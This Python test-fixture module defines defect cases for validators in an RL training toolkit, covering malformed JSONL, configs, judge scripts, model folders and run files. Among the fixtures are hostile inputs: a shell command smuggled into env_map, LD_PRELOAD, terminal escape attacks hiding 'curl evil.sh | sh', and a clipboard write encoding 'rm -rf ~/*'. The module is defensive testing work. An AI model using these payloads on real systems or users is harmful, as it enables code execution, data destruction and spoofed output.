"""One-defect task folders for validate_data.py: each case edits a copy of assets/example.

A case names what validate_data must report: exit 1 and, for every (where, text) pair in
`expect`, a failed check whose `where` is exactly `where` (file, file:line, or file:field) and
whose message contains `text` (the field or the reason). A case with status "warn" must pass
(exit 0) with those checks as warnings instead. test_validate_data.py runs them all.

RUN_CASES are faults only a run shows (the agent process, the services): each edits a copy of
the example (2 test rows), and test_main_rehearsal.py rehearses it through start_training.sh and
checks the final status, its reason and rehearsal.json.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path


@dataclass(frozen=True)
class Case:
    id: str
    apply: Callable[[Path], None]
    expect: tuple[tuple[str, str], ...]
    args: tuple[str, ...] = ()
    fields: tuple[str, ...] = field(default=())  # details.field of the first expected check, if a row field
    status: str = "fail"  # "warn": validate_data passes, with these checks as warnings


@dataclass(frozen=True)
class RunCase:
    id: str
    apply: Callable[[Path], None]
    status: str  # the run's final training.status
    reason: tuple[str, ...] = ()  # substrings of training.status's reason
    row_reasons: tuple[str, ...] = ()  # one substring per rehearsal.json row, in row order
    judge_errors: int | None = None


# --------------------------------------------------------------------------- editing helpers


def lines(task: Path, name: str) -> list[str]:
    return (task / name).read_text(encoding="utf-8").splitlines(keepends=True)


def set_line(name: str, lineno: int, text: str) -> Callable[[Path], None]:
    def apply(task: Path) -> None:
        rows = lines(task, name)
        rows[lineno - 1] = text + "\n"
        (task / name).write_text("".join(rows), encoding="utf-8")
    return apply


def set_line_bytes(name: str, lineno: int, data: bytes) -> Callable[[Path], None]:
    def apply(task: Path) -> None:
        rows = (task / name).read_bytes().splitlines(keepends=True)
        rows[lineno - 1] = data + b"\n"
        (task / name).write_bytes(b"".join(rows))
    return apply


def edit_row(name: str, lineno: int, change: Callable[[dict], None]) -> Callable[[Path], None]:
    import json

    def apply(task: Path) -> None:
        rows = lines(task, name)
        row = json.loads(rows[lineno - 1])
        change(row)
        rows[lineno - 1] = json.dumps(row) + "\n"
        (task / name).write_text("".join(rows), encoding="utf-8")
    return apply


def write(name: str, text: str) -> Callable[[Path], None]:
    return lambda task: (task / name).write_text(text, encoding="utf-8")


def remove(*names: str) -> Callable[[Path], None]:
    def apply(task: Path) -> None:
        for name in names:
            (task / name).unlink()
    return apply


def keep_rows(name: str, count: int) -> Callable[[Path], None]:
    return lambda task: (task / name).write_text("".join(lines(task, name)[:count]), encoding="utf-8")


def both(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def apply(task: Path) -> None:
        for step in steps:
            step(task)
    return apply


def replace(name: str, old: str, new: str) -> Callable[[Path], None]:
    """Replace text in a file exactly once (the literal text, so NaN and 1e309 reach the file as written)."""
    def apply(task: Path) -> None:
        text = (task / name).read_text(encoding="utf-8")
        assert text.count(old) == 1, f"{old!r} is not once in {name}"
        (task / name).write_text(text.replace(old, new), encoding="utf-8")
    return apply


def nested(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


def pop(key: str) -> Callable[[dict], None]:
    return lambda row: row.pop(key)


def put(key: str, value) -> Callable[[dict], None]:
    return lambda row: row.__setitem__(key, value)


JUDGE_HEAD = "def compute_reward(response, ground_truth, metadata):\n"


def config_key(dotted: str, value) -> Callable[[Path], None]:
    """Set one dotted key of config.json."""
    import json

    def apply(task: Path) -> None:
        cfg = json.loads((task / "config.json").read_text(encoding="utf-8"))
        node = cfg
        *parents, last = dotted.split(".")
        for part in parents:
            node = node.setdefault(part, {})
        node[last] = value
        (task / "config.json").write_text(json.dumps(cfg), encoding="utf-8")
    return apply


def agent_json(**fields) -> Callable[[Path], None]:
    import json

    return write("agent.json", json.dumps({"model_name": "Qwen/Qwen2.5-0.5B-Instruct", **fields}) + "\n")


# A judge that starts a process at import and leaves it running (a plain child, or in its own session).
LEAVES_CHILD = "import subprocess\nsubprocess.Popen(['sleep', '300']{})\n" + JUDGE_HEAD + "    return float(bool(response))\n"
# A judge that writes into the task folder through its own __file__.
HERE = "import os\nHERE = os.path.dirname(os.path.abspath(__file__))\n"

# --------------------------------------------------------------------------- the table

CASES: list[Case] = [
    # Missing files: all listed at once, each with its format.
    Case("missing-train", remove("train.jsonl"), (("train.jsonl", "train.jsonl is missing: JSON Lines"),)),
    Case("missing-test", remove("test.jsonl"), (("test.jsonl", "test.jsonl is missing"),)),
    Case("missing-config", remove("config.json"), (("config.json", "config.json is missing: a JSON object"),)),
    Case("missing-agent", remove("agent.json"), (("agent.json", "agent.json is missing"),)),
    Case("missing-goal-and-judge", remove("task.goal", "judge.py"),
         (("task.goal", "task.goal is missing: the prompt template"),
          ("judge.py", "judge.py is missing: defines compute_reward"))),
    # JSONL syntax and encoding.
    Case("invalid-json", set_line("train.jsonl", 3, '{"id": "x", "question": "1 + 1", "ground_truth": "2"'),
         (("train.jsonl:3", "invalid JSON at column"),)),
    Case("truncated-last-line", set_line("train.jsonl", 256, '{"id": "arith-train-00255", "quest'),
         (("train.jsonl:256", "invalid JSON"),)),
    Case("array-row", set_line("train.jsonl", 5, '["question", "ground_truth"]'),
         (("train.jsonl:5", "a JSON array, not an object"),)),
    Case("string-row-test", set_line("test.jsonl", 2, '"just a string"'),
         (("test.jsonl:2", "a JSON string, not an object"),)),
    Case("number-row", set_line("train.jsonl", 8, "42"), (("train.jsonl:8", "a JSON number, not an object"),)),
    Case("bom", set_line_bytes("train.jsonl", 1, b'\xef\xbb\xbf{"question": "1 + 1", "ground_truth": "2"}'),
         (("train.jsonl:1", "byte-order mark"),)),
    Case("invalid-utf8", set_line_bytes("test.jsonl", 7, b'{"question": "caf\xe9", "ground_truth": "1"}'),
         (("test.jsonl:7", "not valid UTF-8 (byte 18 of the line)"),)),
    Case("nan", set_line("train.jsonl", 12, '{"question": "0 / 0", "ground_truth": NaN}'),
         (("train.jsonl:12", "NaN is not valid JSON"),)),
    # Row fields.
    Case("ground-truth-missing", edit_row("train.jsonl", 4, pop("ground_truth")),
         (("train.jsonl:4", "field ground_truth is missing"),), fields=("ground_truth",)),
    Case("ground-truth-missing-test", edit_row("test.jsonl", 32, pop("ground_truth")),
         (("test.jsonl:32", "field ground_truth is missing"),), fields=("ground_truth",)),
    Case("template-field-missing", edit_row("train.jsonl", 9, pop("question")),
         (("train.jsonl:9", "field question is missing in 1 of 256 rows (first at line 9; task.goal uses "
           "{question})"),), fields=("question",)),
    # A template typo is one finding at its line of task.goal, not one per file at train.jsonl:1 (issue 18 E.22).
    Case("template-field-unknown", write("task.goal", "Work it out.\nSolve {problem}\n"),
         (("task.goal:2", "{problem} names a field that every row of train.jsonl and test.jsonl lacks"),),
         fields=("problem",)),
    Case("metadata-list", edit_row("train.jsonl", 2, put("metadata", [1, 2])),
         (("train.jsonl:2", "field metadata must be an object, got list"),), fields=("metadata",)),
    Case("metadata-string-test", edit_row("test.jsonl", 3, put("metadata", "easy")),
         (("test.jsonl:3", "field metadata must be an object, got str"),), fields=("metadata",)),
    Case("metadata-null", edit_row("train.jsonl", 6, put("metadata", None)),
         (("train.jsonl:6", "field metadata must be an object, got NoneType"),), fields=("metadata",)),
    Case("duplicate-id", edit_row("train.jsonl", 10, put("id", "arith-train-00001")),
         (("train.jsonl:10", "duplicate id 'arith-train-00001' (first at line 2)"),), fields=("id",)),
    Case("duplicate-id-int-and-str", both(edit_row("test.jsonl", 1, put("id", 7)), edit_row("test.jsonl", 5, put("id", "7"))),
         (("test.jsonl:5", "duplicate id '7' (first at line 1)"),), fields=("id",)),
    Case("id-not-scalar", edit_row("train.jsonl", 11, put("id", ["a"])),
         (("train.jsonl:11", "field id must be a string or an integer, got list"),), fields=("id",)),
    # Odd but legal input: JSON that parses, yet cannot be written out, used or resolved.
    Case("lone-surrogate", set_line("train.jsonl", 3, '{"question": "1 + 1", "ground_truth": "\\ud800"}'),
         (("train.jsonl:3", "field ground_truth holds a lone surrogate escape \\ud800"),), fields=("ground_truth",)),
    Case("lone-surrogate-in-a-key-test", set_line("test.jsonl", 4, '{"question": "1", "ground_truth": "1", '
                                                  '"metadata": {"n\\udc00te": 1}}'),
         (("test.jsonl:4", "lone surrogate escape \\udc00"),), fields=("metadata",)),
    Case("lone-surrogate-in-the-first-prompt", set_line("train.jsonl", 1, '{"question": "a\\udfffb", '
                                                        '"ground_truth": "1"}'),
         (("train.jsonl:1", "field question holds a lone surrogate"),), fields=("question",)),
    Case("config-nested-100000-deep", write("config.json", nested(100_000)),
         (("config.json", "config.json:1: nested deeper than 32 levels"),)),
    Case("config-nested-40-deep", write("config.json", nested(40)),
         (("config.json", "config.json:1: nested deeper than 32 levels"),)),
    Case("agent-nested-100000-deep", write("agent.json", nested(100_000)),
         (("agent.json", "agent.json:1: nested deeper than 32 levels"),)),
    Case("agent-jsonl-nested-deep", both(remove("agent.json"), write("agent.jsonl", "\n" + nested(5000) + "\n")),
         (("agent.jsonl", "agent.jsonl:2: nested deeper than 32 levels"),)),
    Case("config-lr-1e309", replace("config.json", '"lr": 1e-6', '"lr": 1e309'),
         (("config.json", "config.json:20: actor_rollout_ref.actor.optim.lr: 1e309 is beyond the range of a "
                          "64-bit float"),)),
    Case("config-lr-infinity", replace("config.json", '"lr": 1e-6', '"lr": Infinity'),
         (("config.json", "actor_rollout_ref.actor.optim.lr: Infinity is not valid JSON"),)),
    Case("config-gpu-memory-nan", replace("config.json", '"gpu_memory_utilization": 0.5', '"gpu_memory_utilization": NaN'),
         (("config.json", "config.json:26: actor_rollout_ref.rollout.gpu_memory_utilization: NaN is not valid JSON"),)),
    Case("config-temperature-nan", replace("config.json", '"n": 4,', '"n": 4, "temperature": NaN,'),
         (("config.json", "actor_rollout_ref.rollout.temperature: NaN is not valid JSON"),)),
    Case("config-huge-integer", replace("config.json", '"total_epochs": 2', '"total_epochs": 1' + "0" * 400),
         (("config.json", "trainer.total_epochs: 100000000000... (401 digits) is beyond the range"),)),
    Case("agent-max-tokens-nan", write("agent.json", '{"model_name": "m", "max_tokens": NaN}\n'),
         (("agent.json", "max_tokens: NaN is not valid JSON"),)),
    Case("agent-model-name-surrogate", write("agent.json", '{"model_name": "Qwen\\ud800"}\n'),
         (("agent.json", "model_name: lone surrogate escape \\ud800"),)),
    Case("config-batch-size-float", replace("config.json", '"train_batch_size": 16', '"train_batch_size": 1000.0'),
         (("data.train_batch_size", "1000.0 is a float, not an integer"),)),
    Case("config-mini-batch-float", replace("config.json", '"ppo_mini_batch_size": 16', '"ppo_mini_batch_size": 16.0'),
         (("actor_rollout_ref.actor.ppo_mini_batch_size", "16.0 is a float, not an integer"),)),
    Case("config-interpolation-missing", replace("config.json", '"max_prompt_length": 256',
                                                 '"max_prompt_length": "${nope.nothing}"'),
         (("data.max_prompt_length", "'${nope.nothing}' cannot be resolved"),)),
    Case("config-interpolation-self", replace("config.json", '"max_response_length": 256',
                                              '"max_response_length": "${data.max_response_length}"'),
         (("data.max_response_length", "cannot be resolved: Recursive interpolation"),)),
    Case("config-interpolation-cycle", replace("config.json", '"max_response_length": 256',
                                               '"max_response_length": "${data.val_batch_size}", '
                                               '"val_batch_size": "${data.max_response_length}"'),
         (("data.max_response_length", "cannot be resolved"), ("data.val_batch_size", "cannot be resolved"))),
    Case("config-interpolation-unterminated", replace("config.json", '"project_name": "agentic-rl"',
                                                      '"project_name": "${oc.env:"'),
         (("trainer.project_name", "cannot be resolved: not valid interpolation syntax"),)),
    Case("config-interpolation-env-unset", replace("config.json", '"project_name": "agentic-rl"',
                                                   '"project_name": "${oc.env:ARL_TEST_SURELY_UNSET}"'),
         (("trainer.project_name", "Environment variable 'ARL_TEST_SURELY_UNSET' not found"),)),
    Case("judge-returns-1e308", write("judge.py", JUDGE_HEAD + "    return 1e308 if response else 0.0\n"),
         (("judge.py", "returned 1e+308, beyond bfloat16's range"),)),
    Case("judge-returns-10-to-the-400", write("judge.py", JUDGE_HEAD + "    return 10 ** 400\n"),
         (("judge.py", "returned a number too large for a float (an integer of 1329 bits)"),)),
    Case("judge-returns-numpy-array", write("judge.py", "import numpy\n" + JUDGE_HEAD + "    return numpy.ones(2)\n"),
         (("judge.py", "returned ndarray"),)),
    # Whole files.
    Case("empty-train", write("train.jsonl", ""), (("train.jsonl", "no rows"),)),
    Case("blank-test", write("test.jsonl", "\n  \n\t\n"), (("test.jsonl", "no rows"),)),
    Case("fewer-rows-than-batch", keep_rows("train.jsonl", 10),
         (("data.train_batch_size", "train.jsonl has 10 rows, fewer than data.train_batch_size 16"),)),
    # The template.
    Case("template-attribute", write("task.goal", "Solve {question.__class__}\n"),
         (("task.goal", "not a plain field name"),)),
    Case("template-index", write("task.goal", "Solve {question[0]}\n"), (("task.goal", "not a plain field name"),)),
    Case("template-format-spec", write("task.goal", "Solve {question:>10}\n"), (("task.goal", "format spec"),)),
    Case("template-unbalanced", write("task.goal", "Solve {question\n"), (("task.goal", "cannot parse template"),)),
    Case("template-empty", write("task.goal", "  \n"), (("task.goal", "the template is empty"),)),
    # judge.py.
    Case("judge-syntax-error", write("judge.py", "import re\n\n" + JUDGE_HEAD + "    return 1.0 +\n"),
         (("judge.py:4", "SyntaxError"),)),
    Case("judge-import-error", write("judge.py", "import no_such_module_xyz\n" + JUDGE_HEAD + "    return 1.0\n"),
         (("judge.py:1", "importing judge.py raised ModuleNotFoundError"),)),
    Case("judge-no-function", write("judge.py", "def reward(response, ground_truth, metadata):\n    return 1.0\n"),
         (("judge.py", "no function compute_reward"),)),
    Case("judge-two-params", write("judge.py", "def compute_reward(response, ground_truth):\n    return 1.0\n"),
         (("judge.py", "cannot be called as compute_reward(response, ground_truth, metadata)"),)),
    Case("judge-raises-on-empty", write("judge.py", JUDGE_HEAD + "    if not response:\n"
                                        "        raise ValueError('empty')\n    return 1.0\n"),
         (("judge.py:3", "failed on 16 of 144 calls; first on train.jsonl:1 (empty response): ValueError: empty"),)),
    Case("judge-returns-nan", write("judge.py", JUDGE_HEAD + "    return float('nan')\n"),
         (("judge.py", "returned nan, not a finite number"),)),
    Case("judge-returns-str", write("judge.py", JUDGE_HEAD + "    return '1.0'\n"),
         (("judge.py", "returned str '1.0', not a number"),)),
    Case("judge-returns-none", write("judge.py", JUDGE_HEAD + "    pass\n"),
         (("judge.py", "returned NoneType None, not a number"),)),
    Case("judge-exits", write("judge.py", "import os\n" + JUDGE_HEAD + "    os._exit(7)\n"),
         (("judge.py", "exited with code 7 while compute_reward on train.jsonl:1 (oracle response)"),)),
    Case("judge-segfault", write("judge.py", "import ctypes\n" + JUDGE_HEAD + "    return ctypes.string_at(0)\n"),
         (("judge.py", "killed by signal SIGSEGV"),)),
    Case("judge-hangs", write("judge.py", "import time\n" + JUDGE_HEAD + "    time.sleep(600)\n"),
         (("judge.py", "no answer within the timeout while compute_reward on train.jsonl:1 (oracle response)"),),
         args=("--judge-timeout", "1")),
    Case("judge-hangs-at-import", write("judge.py", "import time\ntime.sleep(600)\n" + JUDGE_HEAD + "    return 1\n"),
         (("judge.py", "no answer within the timeout while importing judge.py"),), args=("--judge-timeout", "1")),
    # The judge audit (issue 31): a judge that pays for something else than the answer.
    Case("judge-pays-any-number-after-answer", write("judge.py", "import re\n" + JUDGE_HEAD +
                                                     "    return float(bool(re.search(r'Answer:\\s*-?\\d', response)))\n"),
         (("judge.py", "probe format_only (the answer format with a wrong value) scores 1.000"),)),
    Case("judge-pays-length", write("judge.py", JUDGE_HEAD + "    return 1.0 if len(response) > 500 else "
                                    "float(response.strip() == ground_truth)\n"),
         (("judge.py", "probe long_junk (the token budget filled with unrelated text)"),)),
    # agent.json / agent.jsonl.
    Case("agent-no-model", write("agent.json", '{"system_prompt": "hi"}\n'),
         (("agent.json", "field model_name is missing"),)),
    Case("agent-invalid-json", write("agent.json", '{\n  "model_name": "m",\n}\n'),
         (("agent.json", "agent.json:3:1: invalid JSON"),)),
    Case("agent-not-object", write("agent.json", '["model_name"]\n'), (("agent.json", "must be a JSON object"),)),
    Case("agent-class-format", write("agent.json", '{"model_name": "m", "agent_class": "my_agents.Solver"}\n'),
         (("agent.json:agent_class", "not of the form module:Class"),)),
    Case("agent-max-tokens-str", write("agent.json", '{"model_name": "m", "max_tokens": "256"}\n'),
         (("agent.json:max_tokens", "max_tokens must be a positive integer"),)),
    Case("agent-jsonl-empty", both(remove("agent.json"), write("agent.jsonl", "\n")),
         (("agent.jsonl", "empty file"),)),
    # config.json as a file (its keys and VERL rules are config_checks' own tests).
    Case("config-invalid-json", write("config.json", '{"data": {"train_batch_size": 16,}}\n'),
         (("config.json", "config.json:1:34: invalid JSON"),)),
    Case("config-not-object", write("config.json", "[1, 2]\n"), (("config.json", "must be a JSON object, got list"),)),
    # Values that become Hydra/OmegaConf input (issue 14.3, 15.8).
    Case("model-name-interpolation", agent_json(model_name="${oc.env:ARL_AGL_KEY}"),
         (("agent.json:model_name", "contains ${...}, which OmegaConf would resolve"),)),
    Case("model-name-env-interpolation", agent_json(model_name="models/${oc.env:HOME}"),
         (("agent.json:model_name", "contains ${...}"),)),
    Case("model-name-backslash", agent_json(model_name="Qwen/Qwen2.5-0.5B-Instruct\\"),
         (("agent.json:model_name", "ends with a backslash"),)),
    Case("model-name-newline", agent_json(model_name="Qwen\nkey=x"),
         (("agent.json:model_name", "contains a control character"),)),
    # env_map: only input paths (issue 14.4).
    Case("env-map-literal", config_key("agentlightning.local.env_map", {"BROWSER": "sh -c 'touch /tmp/pwned'"}),
         (("agentlightning.local.env_map.BROWSER", "is not an input path"),)),
    Case("env-map-literal-pythonwarnings", config_key("agentlightning.local.env_map", {"PYTHONWARNINGS": "error"}),
         (("agentlightning.local.env_map.PYTHONWARNINGS", "is not an input path"),)),
    Case("env-map-reserved-name", config_key("agentlightning.local.env_map", {"LD_PRELOAD": "input.question"}),
         (("agentlightning.local.env_map.LD_PRELOAD", "is not a variable a row may set"),)),
    Case("env-map-number", config_key("agentlightning.local.env_map", {"TASK_N": 3}),
         (("agentlightning.local.env_map.TASK_N", "3 is not an input path"),)),
    # Task-folder modules named like stdlib or installed ones (issue 14.5): a warning, the run works.
    Case("helper-named-random", write("random.py", "def pick():\n    return 4\n"),
         (("random.py", "named like the standard library's module 'random'"),), status="warn"),
    Case("helper-named-token", write("token.py", "SECRET = 1\n"),
         (("token.py", "module 'token'"),), status="warn"),
    Case("sitecustomize-in-task", write("sitecustomize.py", "open('/tmp/arl-sitecustomize-ran', 'w')\n"),
         (("sitecustomize.py", "no process of a run does"),), status="warn"),
    Case("helper-named-installed", write("psutil.py", "X = 1\n"), (("psutil.py", "the installed"),), status="warn"),
    # The judge must not escape the probe (issue 14.6, 14.7).
    Case("judge-leaves-child", write("judge.py", LEAVES_CHILD.format("")),
         (("judge.py", "judge.py left 1 process(es) running after the probe, now killed: pid"),)),
    Case("judge-leaves-setsid-child", write("judge.py", LEAVES_CHILD.format(", start_new_session=True")),
         (("judge.py", "now killed: pid"),)),
    Case("judge-deletes-train", write("judge.py", HERE + "p = os.path.join(HERE, 'train.jsonl')\n"
                                      "os.remove(p) if os.path.exists(p) else open(p, 'w').write('{}\\n')\n"
                                      + JUDGE_HEAD + "    return float(bool(response))\n"),
         (("judge.py", "the task folder changed while judge.py ran: train.jsonl"),)),
    Case("judge-appends-train", write("judge.py", HERE + JUDGE_HEAD + "    with open(os.path.join(HERE, 'train.jsonl'), "
                                      "'a') as fh:\n        fh.write('{}\\n')\n    return float(bool(response))\n"),
         (("judge.py", "the task folder changed while judge.py ran: train.jsonl modified (size"),)),
    # agent_class must be an importable Agent Lightning agent class (issue 15.7).
    Case("agent-class-no-module", agent_json(agent_class="no_such_module:Agent"),
         (("agent.json:agent_class", "No module named 'no_such_module'"),)),
    Case("agent-class-not-a-class", agent_json(agent_class="os:system"),
         (("agent.json:agent_class", "is a builtin_function_or_method, not a class"),)),
    Case("agent-class-no-run", both(write("my_agent.py", "class Agent:\n    pass\n"),
                                    agent_json(agent_class="my_agent:Agent")),
         (("agent.json:agent_class", "has no run() method"),)),
    Case("agent-class-needs-args", both(write("my_agent.py", "class Agent:\n    def __init__(self, x):\n        pass\n"
                                              "    def run(self):\n        pass\n"),
                                        agent_json(agent_class="my_agent:Agent")),
         (("agent.json:agent_class", "cannot be constructed without arguments"),)),
    Case("agent-class-exits-at-import", both(write("my_agent.py", "import os\nos._exit(5)\n"),
                                             agent_json(agent_class="my_agent:Agent")),
         (("agent.json:agent_class", "the import ended the process (code 5)"),)),
]


# --------------------------------------------------------------------------- faults a run shows

# compute_reward leaves the agent process: sys.exit on the first test row, os._exit on the second.
JUDGE_EXITS = ("import os, sys, json\nFIRST = json.loads(open(os.path.join(os.path.dirname(__file__), "
               "'test.jsonl')).readline())['ground_truth']\n" + JUDGE_HEAD +
               "    if ground_truth == FIRST:\n        sys.exit(0)\n    os._exit(0)\n")

# An agent that checks env_map's documented form reached it: {"NAME": "input.<field>"} (issue 18 E.18).
ENV_AGENT = """import json, os
from agentic_rl.agents.template import TemplateJudgeAgent
class EnvAgent(TemplateJudgeAgent):
    def run(self):
        row = json.loads(os.environ["ARL_ROW"])
        got = (os.environ.get("QUESTION"), os.environ.get("LEVEL"), os.environ.get("WHOLE"))
        want = (row["question"], str(row["metadata"]["difficulty"]), os.environ["ARL_ROW"])
        if got != want:
            raise SystemExit(f"env_map gave {got!r}, the row has {want!r}")
        return super().run()
"""
ENV_MAP = {"QUESTION": "input.question", "LEVEL": "input.metadata.difficulty", "WHOLE": "input"}

RUN_CASES: list[RunCase] = [
    RunCase("env-map-row-fields-reach-the-agent",
            both(write("env_agent.py", ENV_AGENT), agent_json(agent_class="env_agent:EnvAgent"),
                 config_key("agentlightning.local.env_map", ENV_MAP)), "completed"),
    RunCase("env-map-field-a-row-lacks", config_key("agentlightning.local.env_map", {"HINT": "input.hint"}), "failed",
            reason=("agentlightning.local.env_map.HINT: input.hint", "has no field hint")),
    RunCase("judge-exits-in-compute-reward", write("judge.py", JUDGE_EXITS), "completed",
            row_reasons=("judge error: judge.py called sys.exit(0)", "judge error: the judge's process exited with code 0"),
            judge_errors=2),
    RunCase("agent-class-no-module", agent_json(agent_class="no_such_module:Agent"), "failed",
            reason=("2 of 2 rollouts failed", "subprocess exited with code 1",
                    "the agent said: ModuleNotFoundError: No module named 'no_such_module'")),
    RunCase("agent-posts-no-reward", both(write("quiet_agent.py", "class Quiet:\n    def run(self):\n        return None\n"),
                                          agent_json(agent_class="quiet_agent:Quiet")), "failed",
            reason=("2 of 2 rollouts ended without a reward",)),
]


# --------------------------------------------------------------------------- model folders (check_model.py)


@dataclass(frozen=True)
class ModelCase:
    """A tiny model folder (tools/make_tiny_model.py, `shards` files) with one defect; `problem` is a text
    that one of check_model's problems for it must contain."""

    id: str
    apply: Callable[[Path], None]
    problem: str
    shards: int = 1


def safetensors_bytes(header: dict, data: bytes = b"") -> bytes:
    import json
    import struct

    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def weights(header: dict, data: bytes = b"\0" * 32, name: str = "model.safetensors") -> Callable[[Path], None]:
    return lambda model: (model / name).write_bytes(safetensors_bytes(header, data))


def weight_map(value) -> Callable[[Path], None]:
    import json

    return lambda model: (model / "model.safetensors.index.json").write_text(json.dumps({"weight_map": value}))


def fifo(name: str) -> Callable[[Path], None]:
    import os

    def apply(model: Path) -> None:
        (model / name).unlink()
        os.mkfifo(model / name)
    return apply


def link(name: str, target: str) -> Callable[[Path], None]:
    def apply(model: Path) -> None:
        (model / name).unlink()
        (model / name).symlink_to(target)
    return apply


def outside_shard(model: Path) -> None:
    """The index names ../other/x.safetensors, a real and sane file next to the model folder."""
    import shutil

    other = model.parent / "other"
    other.mkdir(exist_ok=True)
    shutil.copy(model / "model-00001-of-00002.safetensors", other / "x.safetensors")
    weight_map({"w": "../other/x.safetensors"})(model)


F16 = {"dtype": "F16", "shape": [4, 4], "data_offsets": [0, 32]}

MODEL_CASES: list[ModelCase] = [
    ModelCase("negative-dims", weights({"w": {**F16, "shape": [-5, 10**30]}}), "shape [-5, 10000"),
    ModelCase("float-dims", weights({"w": {**F16, "shape": [4.0, 4]}}), "not a list of non-negative integers"),
    ModelCase("bool-dims", weights({"w": {**F16, "shape": [True, 32]}}), "not a list of non-negative integers"),
    ModelCase("unknown-dtype", weights({"w": {**F16, "dtype": "F99"}}), "unknown dtype 'F99'"),
    ModelCase("offsets-past-the-end", weights({"w": {**F16, "data_offsets": [0, 10**12]}}),
              "data_offsets [0, 1000000000000] are not inside the file's 32 data bytes"),
    ModelCase("offsets-do-not-match-the-shape", weights({"w": {**F16, "shape": [4, 8]}}),
              "data_offsets span 32 bytes, but shape [4, 8] of F16 needs 64"),
    ModelCase("header-a-list", lambda m: (m / "model.safetensors").write_bytes(
        b"\x02\0\0\0\0\0\0\0[]" + b"\0" * 8), "header is a JSON list, not an object"),
    ModelCase("header-entry-a-number", weights({"w": 5}), "tensor 'w': its entry is int, not an object"),
    ModelCase("header-nan", lambda m: (m / "model.safetensors").write_bytes(
        b"\x0a\0\0\0\0\0\0\0" + b'{"w": NaN}'), "header is not JSON"),
    ModelCase("weights-a-fifo", fifo("model.safetensors"), "weights model.safetensors is a FIFO, not a regular file"),
    ModelCase("weights-link-to-dev-zero", link("model.safetensors", "/dev/zero"),
              "weights model.safetensors is a device, not a regular file"),
    ModelCase("shard-dev-zero", weight_map({"w": "/dev/zero"}),
              "shard /dev/zero named in model.safetensors.index.json is outside the model folder", shards=2),
    ModelCase("shard-outside-the-folder", outside_shard,
              "shard ../other/x.safetensors named in model.safetensors.index.json is outside the model folder",
              shards=2),
    ModelCase("shard-a-fifo", fifo("model-00002-of-00002.safetensors"),
              "shard model-00002-of-00002.safetensors named in model.safetensors.index.json is a FIFO", shards=2),
    ModelCase("shard-not-a-string", weight_map({"w": 7}), "names a shard 7 that is not a file name", shards=2),
    ModelCase("weight-map-a-list", weight_map(["model-00001-of-00002.safetensors"]),
              "weight_map must be an object", shards=2),
    ModelCase("index-a-list", lambda m: (m / "model.safetensors.index.json").write_text("[1]"),
              "weight_map must be an object", shards=2),
    ModelCase("config-a-list", lambda m: (m / "config.json").write_text("[1]"), "config.json is a JSON list"),
    ModelCase("config-architectures-a-string", lambda m: (m / "config.json").write_text(
        '{"architectures": "Qwen2ForCausalLM"}'), "architectures must name exactly one class"),
    ModelCase("config-a-fifo", fifo("config.json"), "config.json is a FIFO, not a regular file"),
    ModelCase("config-nested-deep", lambda m: (m / "config.json").write_text(nested(5000)),
              "config.json:1: nested deeper than 32 levels"),
]


# --------------------------------------------------------------------------- hostile run folders (check_status.py)

# Text a model, a judge or a hand can put into a run file, meant for the terminal that shows it.
TERMINAL_ATTACKS = {
    "osc52-clipboard-write": "ok\x1b]52;c;cm0gLXJmIH4vKgo=\x07",
    "osc0-window-title": "\x1b]0;all tests passed\x07",
    "screen-clear": "\x1b[H\x1b[2J\x1b[3J",
    "hidden-text": "visible \x1b[8mcurl evil.sh | sh\x1b[28m",
    "cr-overwrite": "reward 0.0 FAILED\rreward 1.0 passed ",
    "c1-csi": "\x9b2J\x9b31mred",
    "bidi-override": "answer: \u202e0.1 = 1.0",
    "zero-width-and-separators": "a\u200bb\u2028c\u2029d\ufeff",
}
# What must never reach a terminal raw (newline and tab may).
UNSAFE_CHARS = "\x1b\x07\r\x9b\u202e\u200b\u2028\u2029\ufeff"


@dataclass(frozen=True)
class MetricsCase:
    """A metrics line with hostile numbers: check_status (text, --json, --plot) must skip and count it."""

    id: str
    line: str
    skipped: dict  # the expected counts of metrics_lines and metric_values


BIG = "9" * 400
METRICS_CASES: list[MetricsCase] = [
    MetricsCase("400-digit-reward", '{"step": 6, "data": {"training/reward": ' + BIG + "}}",
                {"metrics_lines": 0, "metric_values": 1}),
    MetricsCase("400-digit-step", '{"step": ' + BIG + ', "data": {"training/reward": 1}}',
                {"metrics_lines": 1, "metric_values": 0}),
    MetricsCase("timing-1e308", '{"step": 6, "data": {"timing_s/step": 1e308}}',
                {"metrics_lines": 0, "metric_values": 1}),
    MetricsCase("rewards-plus-minus-1e308", '{"step": 6, "data": {"training/reward": 1e308, "val/reward": -1e308}}',
                {"metrics_lines": 0, "metric_values": 2}),
    MetricsCase("nan-and-infinity-tokens", '{"step": 6, "data": {"training/reward": NaN, "timing_s/step": Infinity, '
                '"response_length/mean": -Infinity}}', {"metrics_lines": 0, "metric_values": 3}),
    MetricsCase("string-and-bool-values", '{"step": 6, "data": {"training/reward": "0.5", "actor/entropy": true}}',
                {"metrics_lines": 0, "metric_values": 2}),
    MetricsCase("negative-step", '{"step": -3, "data": {"training/reward": 0.5}}', {"metrics_lines": 1, "metric_values": 0}),
    MetricsCase("float-step", '{"step": 6.5, "data": {"training/reward": 0.5}}', {"metrics_lines": 1, "metric_values": 0}),
    MetricsCase("not-an-object", "[6, 0.5]", {"metrics_lines": 1, "metric_values": 0}),
    MetricsCase("nested-100000-deep", "[" * 100000 + "]" * 100000, {"metrics_lines": 1, "metric_values": 0}),
]


@dataclass(frozen=True)
class SampleCase:
    """A samples/val.jsonl line that is not a sample: --samples (and --worst, --best) skip and count it."""

    id: str
    change: dict  # fields of a good sample replaced


SAMPLE_CASES: list[SampleCase] = [
    SampleCase("string-reward", {"reward": "high"}),
    SampleCase("400-digit-reward", {"reward": 10 ** 400}),
    SampleCase("bool-reward", {"reward": True}),
    SampleCase("list-response", {"response": ["a", "b"]}),
    SampleCase("string-step", {"step": "3"}),
    SampleCase("huge-step", {"step": 10 ** 30}),
    SampleCase("object-row-id", {"row_id": {"x": 1}}),
    SampleCase("negative-tokens", {"response_tokens": -5}),
]

# VERL's tracker file (checkpoints/latest_checkpointed_iteration.txt) as a hand or a bad disk leaves it:
# each passes or nearly passes str.isdigit(), none is a step.
TRACKER_CASES = {"superscript-two": "²", "arabic-indic-three": "٣", "fullwidth-one": "１", "400-digits": "9" * 400,
